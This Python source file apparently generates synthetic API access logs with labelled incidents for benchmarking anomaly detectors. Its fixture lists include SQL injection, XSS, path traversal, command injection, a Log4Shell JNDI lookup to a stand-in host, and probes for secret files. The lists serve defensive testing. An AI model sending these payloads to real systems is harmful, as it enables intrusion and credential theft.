"""Seeded API traffic of many accounts with labelled incidents, for the anomaly detectors.

Each account has its own time zone, size (from a few requests a day to thousands an hour),
daily and weekly rhythm in local time (office hours, round-the-clock machine traffic, quiet
weekends or not), day-to-day and hour-to-hour noise, slow growth or decline, users with their
own client addresses (a few networks per account, addresses changing weekly), one or two API
keys, SDK user agents, endpoints with ids, and a few percent of 4xx/5xx answers. Some accounts
only start during the last weeks (no history). Internet background noise is added too: stray
clients asking for one or two sensitive paths, and missing records looked up now and then; and
some accounts run a nightly export job that reads hundreds to thousands of records within the
hour, every day at the same local time.

With the hostile catalogue (the default; ``--no-hostile`` leaves it out), incidents of each
kind of :data:`HOSTILE_KINDS` are injected too (a secret file answered 200, injection attempts,
an attack tool's agent, a slow scan, slow credential stuffing, slow brute force, key
enumeration, one address using several customers' keys), with benign neighbours of them that
are no incident: search-engine crawlers, health checks and an uptime probe, customers' CI
running their test suites (deliberate 401s and bad keys), a client looking up mostly missing
records.

Incidents of each kind are injected in the last ``--eval-days`` days and written to a labels
file (CSV): ``kind,entity_type,entity,account,start,end,related`` where ``related`` lists, ``|``
separated, every value that names the incident (the entity, its account, key, user, client
addresses and networks).

    python bench/anomaly_traffic.py --seed 7 --out /tmp/traffic   # access.log, labels.csv
"""

from __future__ import annotations

import argparse
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import numpy as np
import polars as pl

#: A Monday; six weeks from here cover the European (25 Oct) and US (1 Nov) clock changes.
START = datetime(2026, 9, 21, tzinfo=UTC)
ZONES = [
    "UTC",
    "Europe/Berlin",
    "Europe/London",
    "America/New_York",
    "America/Los_Angeles",
    "Asia/Tokyo",
    "Asia/Kolkata",
    "Australia/Sydney",
    "America/Sao_Paulo",
]
LOG_FORMAT = (
    '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent '
    '"$http_referer" "$http_user_agent" "$http_x_api_key"'
)
ENDPOINTS = [
    ("GET", "/v1/items/{id}", 0.28),
    ("GET", "/v1/items", 0.14),
    ("POST", "/v1/orders", 0.08),
    ("GET", "/v1/orders/{id}", 0.14),
    ("GET", "/v1/users/{id}/orders", 0.10),
    ("POST", "/v1/login", 0.04),
    ("GET", "/v1/search", 0.12),
    ("PUT", "/v1/items/{id}", 0.05),
    ("GET", "/health", 0.05),
]
SDK_AGENTS = [
    "acme-sdk-python/2.4.1",
    "acme-sdk-python/2.5.0",
    "acme-sdk-node/5.1.0",
    "acme-sdk-go/1.9.3",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/129.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.9.1",
]
ATTACK_AGENTS = [
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.68.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/99.0 Safari/537.36",
    "zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3",
    "Wget/1.21.2",
]
PROBE_PATHS = [
    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/xmlrpc.php",
    "/phpmyadmin/", "/.aws/credentials", "/config.json", "/backup.sql", "/admin", "/admin.php",
    "/.htaccess", "/server-status", "/actuator/health", "/api/.env", "/../../etc/passwd",
    "/cgi-bin/test.cgi", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.DS_Store",
    "/login.action", "/console", "/solr/admin", "/manager/html", "/owa/", "/remote/login",
    "/boaform/admin/formLogin", "/HNAP1", "/setup.cgi", "/shell.php", "/info.php", "/test.php",
    "/db.sql", "/dump.sql", "/old/", "/new/", "/tmp/", "/debug", "/jenkins", "/.svn/entries",
]  # fmt: skip
KINDS = ("spike", "drop", "auth_failures", "key_sharing", "probing", "error_surge", "scraping")
#: The hostile catalogue: attacks a generic rule set or an API's identities reveal.
HOSTILE_KINDS = (
    "breach",
    "injection",
    "attack_tool",
    "slow_scan",
    "credential_stuffing",
    "slow_brute_force",
    "key_enumeration",
    "foreign_keys",
)
ALL_KINDS = KINDS + HOSTILE_KINDS
#: Agents of stray internet clients (background noise, not an incident): ordinary clients.
NOISE_AGENTS = [
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.68.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/99.0 Safari/537.36",
    "Wget/1.21.2",
]
TOOL_AGENTS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "gobuster/3.6",
]
INJECTIONS = [
    "/v1/items?id=1%27%20OR%20%271%27%3D%271",
    "/v1/items?id=1%20UNION%20SELECT%20NULL,username,password%20FROM%20users--",
    "/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/v1/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/v1/files?name=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/v1/items/1;cat%20/etc/passwd",
    "/v1/items?id=1%20AND%20SLEEP(5)",
    "/v1/search?q=${jndi:ldap://203.0.113.66/a}",
    "/static/../../../../windows/win.ini",
    "/v1/items?sort=name%27--",
]
SECRET_FILES = [
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/backup.sql",
    "/db.sql",
    "/.htpasswd",
]
CRAWLER_AGENTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]


@dataclass
class Account:
    index: int
    name: str
    tz: str
    peak: float  # requests per hour at the busiest hour of a weekday
    night: float  # share of the peak at night
    weekend: float  # weekend factor
    office: bool  # office-hours rhythm (else round the clock with a mild daily wave)
    trend: float  # growth per week
    first_day: int  # the day its traffic starts
    users: int
    keys: list[str]
    networks: list[str]
    agents: list[str]
    error_share: float  # usual 5xx share


def _accounts(rng: np.random.Generator, count: int, days: int, eval_days: int) -> list[Account]:
    accounts = []
    for index in range(count):
        peak = float(10 ** rng.uniform(-0.3, 3.2))
        late = rng.random() < 0.08
        first_day = int(rng.integers(days - eval_days, days - 2)) if late else 0
        networks = [
            f"{rng.integers(11, 223)}.{rng.integers(0, 256)}.{rng.integers(0, 256)}"
            for _ in range(int(rng.integers(1, 5)))
        ]
        agents = list(rng.choice(SDK_AGENTS, size=int(rng.integers(1, 4)), replace=False))
        keys = [
            f"key_{index:03d}_{rng.integers(0, 1 << 48):012x}"
            for _ in range(int(rng.integers(1, 3)))
        ]
        accounts.append(
            Account(
                index=index,
                name=f"acct{index:03d}",
                tz=str(rng.choice(ZONES)),
                peak=peak,
                night=float(rng.uniform(0.02, 0.4)),
                weekend=float(rng.uniform(0.1, 1.0)),
                office=bool(rng.random() < 0.7),
                trend=float(rng.normal(0.0, 0.03)),
                first_day=first_day,
                users=int(np.clip(peak / 4 * rng.uniform(0.5, 2.0), 1, 400)),
                keys=keys,
                networks=networks,
                agents=agents,
                error_share=float(10 ** rng.uniform(-3.3, -1.7)),
            )
        )
    return accounts


def _profile(account: Account, hours: pl.Series) -> np.ndarray:
    """Expected requests per UTC hour (before noise), from the account's local rhythm."""
    local = hours.dt.convert_time_zone(account.tz)
    hour = local.dt.hour().to_numpy().astype(float) + 0.5
    weekday = local.dt.weekday().to_numpy()  # 1 = Monday
    if account.office:
        day = np.clip(np.sin((hour - 7.0) / 12.0 * np.pi), 0.0, None) ** 1.5
        level = account.night + (1 - account.night) * day
    else:
        level = 0.75 + 0.25 * np.sin((hour - 9.0) / 24.0 * 2 * np.pi)
    level = level * np.where(weekday >= 6, account.weekend, 1.0)
    weeks = np.arange(len(hours)) / 168.0
    return account.peak * level * (1.0 + account.trend) ** weeks


@dataclass
class Incident:
    kind: str
    entity_type: str
    entity: str
    account: str
    start: datetime
    end: datetime
    related: list[str]


def _hour(index: int) -> datetime:
    return START + timedelta(hours=int(index))


def generate(
    seed: int,
    accounts: int = 60,
    weeks: int = 6,
    eval_days: int = 14,
    incidents: int = 6,
    hostile: bool = True,
) -> tuple[pl.DataFrame, list[Incident], dict[str, str]]:
    """Events (``ts``, ``remote_addr``, ``remote_user``, ``method``, ``path``, ``status``,
    ``bytes_sent``, ``user_agent``, ``http_x_api_key``), the incidents injected in them
    (``incidents`` of each kind; with ``hostile`` also of :data:`HOSTILE_KINDS`, and benign
    neighbours of them) and the accounts' keys (key -> account)."""
    rng = np.random.default_rng(seed)
    days = weeks * 7
    n_hours = days * 24
    hours = pl.datetime_range(
        START, START + timedelta(hours=n_hours - 1), "1h", eager=True, time_zone="UTC"
    )
    people = _accounts(rng, accounts, days, eval_days)
    eval_start = n_hours - eval_days * 24
    rates = []
    for account in people:
        noise_day = np.repeat(rng.lognormal(0.0, 0.12, size=days), 24)
        noise_hour = rng.lognormal(0.0, 0.2, size=n_hours)
        rate = _profile(account, hours) * noise_day * noise_hour
        rate[: account.first_day * 24] = 0.0
        rates.append(rate)
    rate = np.vstack(rates)
    labels: list[Incident] = []
    extra: list[pl.DataFrame] = []
    surges: list[tuple[int, int, int, float]] = []  # account, first hour, last hour, share

    def related(account: Account) -> list[str]:
        return [account.name, *account.keys, *[f"{n}.0/24" for n in account.networks]]

    def pick_hour(first: int = eval_start, last: int = n_hours - 6) -> int:
        return int(rng.integers(first, last))

    history = [a for a in people if a.first_day == 0]
    # spike: the account's own traffic many times over, for 1 to 4 hours
    for a in rng.choice(history, size=incidents, replace=False):
        h = pick_hour()
        length = int(rng.integers(1, 5))
        base = rate[a.index, h : h + length]
        factor = rng.uniform(4.0, 12.0)
        rate[a.index, h : h + length] = np.maximum(base * factor, base + rng.uniform(300, 900))
        labels.append(
            Incident("spike", "account", a.name, a.name, _hour(h), _hour(h + length), related(a))
        )
    # drop: a busy account's integration breaks for 4 to 10 hours during its busy time
    busy = [a for a in history if a.peak >= 60]
    for a in rng.choice(busy, size=min(incidents, len(busy)), replace=False):
        profile = rate[a.index]
        candidates = [h for h in range(eval_start, n_hours - 12) if profile[h] >= 0.6 * a.peak]
        h = int(rng.choice(candidates))
        length = int(rng.integers(4, 11))
        rate[a.index, h : h + length] *= rng.uniform(0.0, 0.08)
        labels.append(
            Incident("drop", "account", a.name, a.name, _hour(h), _hour(h + length), related(a))
        )
    # error surge: 20 to 70% of an account's answers are 5xx for 1 to 4 hours
    lively = [a for a in history if a.peak >= 40]
    for a in rng.choice(lively, size=min(incidents, len(lively)), replace=False):
        profile = rate[a.index]
        candidates = [h for h in range(eval_start, n_hours - 5) if profile[h] >= 0.5 * a.peak]
        h = int(rng.choice(candidates))
        length = int(rng.integers(1, 5))
        surges.append((a.index, h, h + length, float(rng.uniform(0.2, 0.7))))
        labels.append(
            Incident(
                "error_surge", "account", a.name, a.name, _hour(h), _hour(h + length), related(a)
            )
        )

    counts = rng.poisson(rate)
    frames = []
    for a in people:
        frames.append(_account_events(rng, a, counts[a.index], surges))
    # security incidents: extra requests
    for i in range(incidents):
        extra.append(_auth_incident(rng, people, i, pick_hour(), labels))
        extra.append(_key_sharing_incident(rng, history, pick_hour(), labels))
        extra.append(_probing_incident(rng, people, pick_hour(), labels))
        extra.append(_scraping_incident(rng, history, pick_hour(), labels))
    if hostile:
        for i in range(incidents):
            extra.extend(_hostile_incidents(rng, people, history, i, pick_hour, labels))
        extra.extend(_benign_neighbours(rng, people, history, days))
    extra.append(_background_noise(rng, people, n_hours))
    extra.extend(_batch_jobs(rng, history, days))
    events = (
        pl.concat([*frames, *extra], how="vertical_relaxed")
        .sort("ts", "remote_addr", "path", maintain_order=True)
        .with_columns(pl.col("ts").dt.truncate("1s"))
    )
    labels.sort(key=lambda x: (x.start, x.kind, x.entity))
    keys = {key: a.name for a in people for key in a.keys}
    return events, labels, keys


def _ids(rng: np.random.Generator, users: np.ndarray) -> np.ndarray:
    """Record ids: each user works mostly on their own few hundred records."""
    own = users * 97 % 9000 + rng.integers(0, 300, size=len(users))
    anywhere = rng.integers(1, 20000, size=len(users))
    return np.where(rng.random(len(users)) < 0.8, own, anywhere)


def _account_events(
    rng: np.random.Generator,
    account: Account,
    counts: np.ndarray,
    surges: list[tuple[int, int, int, float]],
) -> pl.DataFrame:
    total = int(counts.sum())
    hour = np.repeat(np.arange(len(counts)), counts)
    seconds = hour * 3600 + rng.integers(0, 3600, size=total)
    weights = 1.0 / np.arange(1, account.users + 1) ** 0.8
    users = rng.choice(account.users, size=total, p=weights / weights.sum())
    week = hour // 168
    network = np.array(account.networks)[users % len(account.networks)]
    host = (users * 37 + week * (users % 3 == 0) * 11) % 250 + 2
    endpoint = rng.choice(len(ENDPOINTS), size=total, p=[e[2] for e in ENDPOINTS])
    methods = np.array([e[0] for e in ENDPOINTS])[endpoint]
    templates = np.array([e[1] for e in ENDPOINTS])[endpoint]
    ids = _ids(rng, users)
    draw = rng.random(total)
    status = np.full(total, 200)
    status = np.where(methods == "POST", 201, status)
    status = np.where(draw < 0.02, 404, status)
    status = np.where((draw >= 0.02) & (draw < 0.026), 401, status)
    status = np.where((draw >= 0.026) & (draw < 0.028), 403, status)
    status = np.where((draw >= 0.028) & (draw < 0.033), 429, status)
    status = np.where(draw >= 1.0 - account.error_share, 500, status)
    status = np.where((templates == "/v1/login") & (draw < 0.05), 401, status)
    for index, first, last, share in surges:
        if index == account.index:
            inside = (hour >= first) & (hour < last) & (rng.random(total) < share)
            status = np.where(inside, rng.choice([500, 502, 503], size=total), status)
    agents = np.array(account.agents)[users % len(account.agents)]
    keys = np.array(account.keys)[users % len(account.keys)]
    anonymous = users % 7 == 6
    frame = pl.DataFrame(
        {
            "seconds": seconds,
            "network": network,
            "host": host,
            "user": users,
            "anonymous": anonymous,
            "method": methods,
            "template": templates,
            "id": ids,
            "status": status,
            "user_agent": agents,
            "http_x_api_key": keys,
        }
    )
    return frame.select(
        (pl.lit(START) + pl.duration(seconds=pl.col("seconds"))).alias("ts"),
        pl.format("{}.{}", "network", "host").alias("remote_addr"),
        pl.when(pl.col("anonymous"))
        .then(pl.lit("-"))
        .otherwise(pl.format("{}-u{}", pl.lit(account.name), "user"))
        .alias("remote_user"),
        "method",
        pl.col("template")
        .str.replace("{id}", pl.col("id").cast(pl.String), literal=True)
        .alias("path"),
        pl.col("status").cast(pl.Int64),
        (pl.col("id") * 13 % 4000 + 200).alias("bytes_sent"),
        "user_agent",
        "http_x_api_key",
    )


def _frame(
    ts: np.ndarray,
    ips: list[str] | np.ndarray,
    users: list[str] | np.ndarray | str,
    methods: np.ndarray | str,
    paths: np.ndarray | list[str],
    statuses: np.ndarray | int,
    agents: np.ndarray | list[str] | str,
    keys: np.ndarray | str,
) -> pl.DataFrame:
    size = len(ts)

    def full(value: object) -> object:
        return np.full(size, value) if np.isscalar(value) else value

    return pl.DataFrame(
        {
            "ts": pl.Series(np.sort(ts) * 1_000_000, dtype=pl.Int64).cast(pl.Datetime("us", "UTC")),
            "remote_addr": full(ips),
            "remote_user": full(users),
            "method": full(methods),
            "path": full(paths),
            "status": full(statuses),
            "bytes_sent": np.full(size, 120),
            "user_agent": full(agents),
            "http_x_api_key": full(keys),
        },
        schema_overrides={"status": pl.Int64, "bytes_sent": pl.Int64},
    )


def _seconds(rng: np.random.Generator, hour: int, minutes: float, size: int) -> np.ndarray:
    base = START.timestamp() + hour * 3600 + int(rng.integers(0, 3600))
    return (base + rng.uniform(0, minutes * 60, size=size)).astype(np.int64)


def _random_ip(rng: np.random.Generator, size: int, network: str | None = None) -> np.ndarray:
    if network is not None:
        return np.array([f"{network}.{h}" for h in rng.integers(2, 255, size=size)])
    parts = rng.integers(1, 255, size=(size, 4))
    parts[:, 0] = rng.integers(100, 200, size=size)
    return np.array([".".join(map(str, p)) for p in parts])


def _span(ts: np.ndarray) -> tuple[datetime, datetime]:
    first = datetime.fromtimestamp(int(ts.min()), UTC)
    last = datetime.fromtimestamp(int(ts.max()) + 1, UTC)
    return first, last


def _auth_incident(
    rng: np.random.Generator, people: list[Account], i: int, hour: int, labels: list[Incident]
) -> pl.DataFrame:
    """Brute force from one address, credential stuffing from many, or from one /24."""
    account = people[int(rng.integers(0, len(people)))]
    if account.first_day * 24 > hour:
        hour = account.first_day * 24 + 2
    variant = i % 3
    size = int(rng.integers(250, 1500))
    minutes = float(rng.uniform(5, 30))
    ts = _seconds(rng, hour, minutes, size)
    network = f"{rng.integers(100, 200)}.{rng.integers(0, 256)}.{rng.integers(0, 256)}"
    if variant == 0:
        ip = _random_ip(rng, 1)[0]
        ips = np.full(size, ip)
        entity_type, entity = "ip", str(ip)
        names = [ip]
    elif variant == 1:
        pool = _random_ip(rng, int(rng.integers(30, 120)))
        ips = rng.choice(pool, size=size)
        entity_type, entity = "account", account.name
        names = list(pool)
    else:
        pool = _random_ip(rng, int(rng.integers(5, 40)), network)
        ips = rng.choice(pool, size=size)
        entity_type, entity = "network", f"{network}.0/24"
        names = [*pool, entity]
    statuses = np.where(rng.random(size) < 0.9, 401, 403)
    users = np.array([f"victim{n}@example.com" for n in rng.integers(0, 5000, size=size)])
    key = account.keys[0]
    start, end = _span(ts)
    labels.append(
        Incident(
            "auth_failures", entity_type, entity, account.name, start, end,
            [entity, account.name, key, *names],
        )
    )  # fmt: skip
    agent = str(rng.choice(ATTACK_AGENTS))
    return _frame(ts, ips, users, "POST", np.full(size, "/v1/login"), statuses, agent, key)


def _key_sharing_incident(
    rng: np.random.Generator, people: list[Account], hour: int, labels: list[Incident]
) -> pl.DataFrame:
    """A key used from many new addresses in many networks, with other user agents."""
    account = people[int(rng.integers(0, len(people)))]
    key = account.keys[-1]
    clients = int(rng.integers(30, 150))
    pool = _random_ip(rng, clients)
    per_client = rng.integers(2, 12, size=clients)
    ips = np.repeat(pool, per_client)
    size = len(ips)
    ts = _seconds(rng, hour, float(rng.uniform(40, 200)), size)
    rng.shuffle(ts)
    agents = rng.choice(ATTACK_AGENTS + SDK_AGENTS, size=size)
    paths = np.array([f"/v1/items/{n}" for n in rng.integers(1, 20000, size=size)])
    start, end = _span(ts)
    labels.append(
        Incident(
            "key_sharing", "key", key, account.name, start, end,
            [key, account.name, *pool],
        )
    )  # fmt: skip
    return _frame(ts, ips, "-", "GET", paths, 200, agents, key)


def _probing_incident(
    rng: np.random.Generator, people: list[Account], hour: int, labels: list[Incident]
) -> pl.DataFrame:
    """A scanner asking for sensitive and made-up paths within minutes."""
    ip = _random_ip(rng, 1)[0]
    size = int(rng.integers(40, 300))
    words = ["admin", "api", "backup", "v0", "v2", "internal", "old", "test", "dev", "private"]
    made_up = [f"/{rng.choice(words)}/{rng.choice(words)}{n}" for n in range(size)]
    paths = np.where(rng.random(size) < 0.5, rng.choice(PROBE_PATHS, size=size), np.array(made_up))
    statuses = np.where(rng.random(size) < 0.9, 404, 403)
    ts = _seconds(rng, hour, float(rng.uniform(2, 15)), size)
    start, end = _span(ts)
    labels.append(Incident("probing", "ip", str(ip), "", start, end, [str(ip)]))
    agent = str(rng.choice(ATTACK_AGENTS))
    return _frame(ts, np.full(size, ip), "-", "GET", paths, statuses, agent, "-")


def _scraping_incident(
    rng: np.random.Generator, people: list[Account], hour: int, labels: list[Incident]
) -> pl.DataFrame:
    """One user of an account walking through an endpoint's ids."""
    account = people[int(rng.integers(0, len(people)))]
    user = f"{account.name}-u{int(rng.integers(0, account.users))}"
    size = int(rng.integers(600, 4000))
    first = int(rng.integers(1, 50000))
    paths = np.array([f"/v1/orders/{first + n}" for n in range(size)])
    ts = np.sort(_seconds(rng, hour, float(rng.uniform(40, 180)), size))
    statuses = np.where(rng.random(size) < 0.85, 200, 404)
    ip = f"{account.networks[0]}.{int(rng.integers(2, 255))}"
    start, end = _span(ts)
    labels.append(
        Incident(
            "scraping", "user", user, account.name, start, end,
            [user, account.name, account.keys[0], ip],
        )
    )  # fmt: skip
    return _frame(
        ts, np.full(size, ip), user, "GET", paths, statuses, account.agents[0], account.keys[0]
    )


def _background_noise(
    rng: np.random.Generator, people: list[Account], n_hours: int
) -> pl.DataFrame:
    """What every public API sees: stray clients asking for a sensitive path or two, unknown
    paths, a wrong key now and then. Not an incident."""
    size = n_hours * 3
    ts = (START.timestamp() + rng.uniform(0, n_hours * 3600, size=size)).astype(np.int64)
    ips = _random_ip(rng, size // 2)
    ips = np.concatenate([ips, ips])
    paths = np.where(
        rng.random(size) < 0.5,
        rng.choice(PROBE_PATHS, size=size),
        np.array([f"/v1/items/{n}/x" for n in rng.integers(0, 100000, size=size)]),
    )
    statuses = rng.choice([404, 404, 404, 401, 403], size=size)
    agents = rng.choice(NOISE_AGENTS, size=size)
    return _frame(ts, ips, "-", "GET", paths, statuses, agents, "-")


def _batch_jobs(rng: np.random.Generator, people: list[Account], days: int) -> list[pl.DataFrame]:
    """Nightly exports: some accounts run a job at the same local time every day that reads a
    few hundred to a few thousand records in under an hour. Normal, not an incident."""
    jobs = []
    for account in people:
        if rng.random() >= 0.2:
            continue
        hour = int(rng.integers(0, 24))
        size = int(rng.integers(300, 2000))
        zone = ZoneInfo(account.tz)
        first = int(rng.integers(1, 50000))
        for day in range(days):
            local = (START + timedelta(days=day)).astimezone(zone).replace(hour=hour, minute=5)
            begin = local.astimezone(UTC).timestamp()
            count = int(size * rng.uniform(0.9, 1.1))
            ts = (begin + np.sort(rng.uniform(0, 40 * 60, size=count))).astype(np.int64)
            paths = np.array([f"/v1/orders/{first + n}" for n in range(count)])
            ip = f"{account.networks[0]}.250"
            user = f"{account.name}-batch"
            jobs.append(
                _frame(ts, np.full(count, ip), user, "GET", paths, 200, "export-job/1.0",
                       account.keys[0])
            )  # fmt: skip
    return jobs


def _hostile_incidents(
    rng: np.random.Generator,
    people: list[Account],
    history: list[Account],
    i: int,
    pick_hour: object,
    labels: list[Incident],
) -> list[pl.DataFrame]:
    """One incident of each hostile kind (see :data:`HOSTILE_KINDS`)."""
    pick = pick_hour  # type: ignore[assignment]
    frames = []

    def label(kind: str, entity_type: str, entity: str, account: str, ts: np.ndarray,
              related: list[str]) -> None:  # fmt: skip
        start, end = _span(ts)
        labels.append(Incident(kind, entity_type, entity, account, start, end, related))

    # breach: one request for a secret file answered 200 (among a few 404s)
    ip = str(_random_ip(rng, 1)[0])
    size = int(rng.integers(1, 4))
    ts = _seconds(rng, pick(), 2.0, size)
    paths = np.array([str(rng.choice(SECRET_FILES)) for _ in range(size)])
    statuses = np.full(size, 404)
    statuses[-1] = 200
    label("breach", "ip", ip, "", ts, [ip])
    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, statuses, "curl/8.4.0", "-"))
    # injection: 3 to 30 injection attempts at an account's endpoints
    account = history[int(rng.integers(0, len(history)))]
    ip = str(_random_ip(rng, 1)[0])
    size = int(rng.integers(3, 31))
    ts = _seconds(rng, pick(), float(rng.uniform(1, 30)), size)
    paths = rng.choice(INJECTIONS, size=size)
    statuses = rng.choice([400, 404, 500, 200], size=size)
    label("injection", "ip", ip, account.name, ts, [ip])
    agent = str(rng.choice(NOISE_AGENTS))
    frames.append(
        _frame(ts, np.full(size, ip), "-", "GET", paths, statuses, agent, account.keys[0])
    )
    # attack tool: a handful of ordinary-looking requests from a scanner's agent
    ip = str(_random_ip(rng, 1)[0])
    size = int(rng.integers(1, 8))
    ts = _seconds(rng, pick(), 5.0, size)
    paths = np.array([f"/v1/items/{n}" for n in rng.integers(1, 20000, size=size)])
    label("attack_tool", "ip", ip, "", ts, [ip])
    agent = str(rng.choice(TOOL_AGENTS))
    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, 404, agent, "-"))
    # slow scan: one sensitive path every 2 to 5 minutes for one to two hours
    ip = str(_random_ip(rng, 1)[0])
    size = int(rng.integers(12, 40))
    step = float(rng.uniform(120, 300))
    begin = START.timestamp() + pick() * 3600
    ts = (begin + np.arange(size) * step + rng.uniform(0, 20, size=size)).astype(np.int64)
    paths = rng.choice(PROBE_PATHS, size=size, replace=False)
    label("slow_scan", "ip", ip, "", ts, [ip])
    agent = str(rng.choice(NOISE_AGENTS))
    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, 404, agent, "-"))
    # slow credential stuffing: 4 to 5 failures a minute for an hour, a new user name each time,
    # with a customer's valid key; 1% succeed
    account = people[int(rng.integers(0, len(people)))]
    ip = str(_random_ip(rng, 1)[0])
    size = int(rng.integers(240, 300))
    ts = _seconds(rng, max(pick(), account.first_day * 24 + 1), 60.0, size)
    users = np.array([f"person{n}@example.org" for n in rng.integers(0, 10**6, size=size)])
    statuses = np.where(rng.random(size) < 0.01, 200, 401)
    label("credential_stuffing", "ip", ip, account.name, ts, [ip])
    agent = str(rng.choice(NOISE_AGENTS))
    frames.append(_frame(ts, np.full(size, ip), users, "POST", np.full(size, "/v1/login"),
                         statuses, agent, account.keys[0]))  # fmt: skip
    # slow brute force: one user's password, 3 to 5 a minute for an hour
    account = history[int(rng.integers(0, len(history)))]
    ip = str(_random_ip(rng, 1)[0])
    size = int(rng.integers(180, 300))
    ts = _seconds(rng, pick(), 60.0, size)
    user = f"{account.name}-u0"
    label("slow_brute_force", "ip", ip, account.name, ts, [ip])
    frames.append(_frame(ts, np.full(size, ip), user, "POST", np.full(size, "/v1/login"), 401,
                         str(rng.choice(NOISE_AGENTS)), account.keys[0]))  # fmt: skip
    # key enumeration: 2 guessed keys a minute for an hour, all refused
    ip = str(_random_ip(rng, 1)[0])
    size = int(rng.integers(100, 140))
    ts = _seconds(rng, pick(), 60.0, size)
    keys = np.array([f"sk_{k:024x}" for k in rng.integers(0, 1 << 62, size=size)])
    label("key_enumeration", "ip", ip, "", ts, [ip])
    frames.append(_frame(ts, np.full(size, ip), "-", "GET", np.full(size, "/v1/items"), 401,
                         str(rng.choice(NOISE_AGENTS)), keys))  # fmt: skip
    # foreign keys: one address using the valid keys of 3 to 6 customers within hours
    owners = rng.choice(history, size=int(rng.integers(3, 7)), replace=False)
    ip = str(_random_ip(rng, 1)[0])
    per = int(rng.integers(5, 30))
    size = per * len(owners)
    ts = _seconds(rng, pick(), float(rng.uniform(30, 300)), size)
    keys = np.repeat(np.array([a.keys[0] for a in owners]), per)
    paths = np.array([f"/v1/items/{n}" for n in rng.integers(1, 20000, size=size)])
    label("foreign_keys", "ip", ip, "", ts, [ip])
    frames.append(_frame(ts, np.full(size, ip), "-", "GET", paths, 200, "Go-http-client/1.1", keys))
    return frames


def _benign_neighbours(
    rng: np.random.Generator, people: list[Account], history: list[Account], days: int
) -> list[pl.DataFrame]:
    """Traffic close to the hostile kinds that is not an incident: search-engine crawlers, health
    checks and uptime probes, a customer's CI running its test suite (deliberate 401s with test
    users and a few bad keys), a client looking up many missing records."""
    frames = []
    begin = START.timestamp()
    # crawlers: a few thousand public pages a day, 10% dead links
    for agent, network in zip(CRAWLER_AGENTS, ("66.249.66", "157.55.39"), strict=True):
        size = days * int(rng.integers(1500, 4000))
        ts = (begin + rng.uniform(0, days * 86400, size=size)).astype(np.int64)
        ids = rng.integers(1, 200000, size=size)
        paths = np.where(
            rng.random(size) < 0.1,
            np.array([f"/docs/old-{n}" for n in ids]),
            np.array([f"/v1/items/{n}" for n in ids]),
        )
        statuses = np.where(np.char.startswith(paths.astype(str), "/docs/old-"), 404, 200)
        ips = _random_ip(rng, size, network)
        frames.append(_frame(ts, ips, "-", "GET", paths, statuses, agent, "-"))
    # health checks every 10 s and an uptime probe every minute
    ts = (begin + np.arange(0, days * 86400, 10)).astype(np.int64)
    frames.append(_frame(ts, np.full(len(ts), "10.250.0.5"), "-", "GET",
                         np.full(len(ts), "/health"), 200, "kube-probe/1.29", "-"))  # fmt: skip
    ts = (begin + np.arange(0, days * 86400, 60)).astype(np.int64)
    frames.append(_frame(ts, np.full(len(ts), "216.144.250.150"), "-", "GET",
                         np.full(len(ts), "/server-status"), 200,
                         "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                         "-"))  # fmt: skip
    # a customer's CI: twice a day, a test suite with 3 test users, 40 deliberate 401s and 3
    # bad keys, 20 missing records
    for account in rng.choice(history, size=3, replace=False):
        ip = f"{account.networks[0]}.240"
        for day in range(days):
            for run in (9, 15):
                t0 = begin + day * 86400 + run * 3600
                size = 300
                ts = (t0 + np.sort(rng.uniform(0, 600, size=size))).astype(np.int64)
                kind = rng.integers(0, 10, size=size)
                paths = np.where(kind < 2, "/v1/login", np.where(
                    kind < 3, np.array([f"/v1/items/{n}" for n in rng.integers(900000, 999999, size=size)]),
                    "/v1/items"))  # fmt: skip
                statuses = np.where(kind < 2, 401, np.where(kind < 3, 404, 200))
                users = np.array([f"ci-test{n}" for n in rng.integers(0, 3, size=size)])
                keys = np.where(kind == 9, np.array([f"bad-test-key-{n}" for n in rng.integers(0, 3, size=size)]),
                                account.keys[0])  # fmt: skip
                statuses = np.where(kind == 9, 401, statuses)
                frames.append(_frame(ts, np.full(size, ip), users, "GET", paths, statuses,
                                     "pytest/8.3 acme-sdk-python/2.5.0", keys))  # fmt: skip
    # a client looking up records, most of which do not exist
    account = history[int(rng.integers(0, len(history)))]
    ip = f"{account.networks[0]}.241"
    size = days * 500
    ts = (begin + rng.uniform(0, days * 86400, size=size)).astype(np.int64)
    endpoint = rng.choice(["/v1/items/{}", "/v1/orders/{}", "/v1/users/{}/orders"], size=size)
    ids = rng.integers(1, 10**7, size=size)
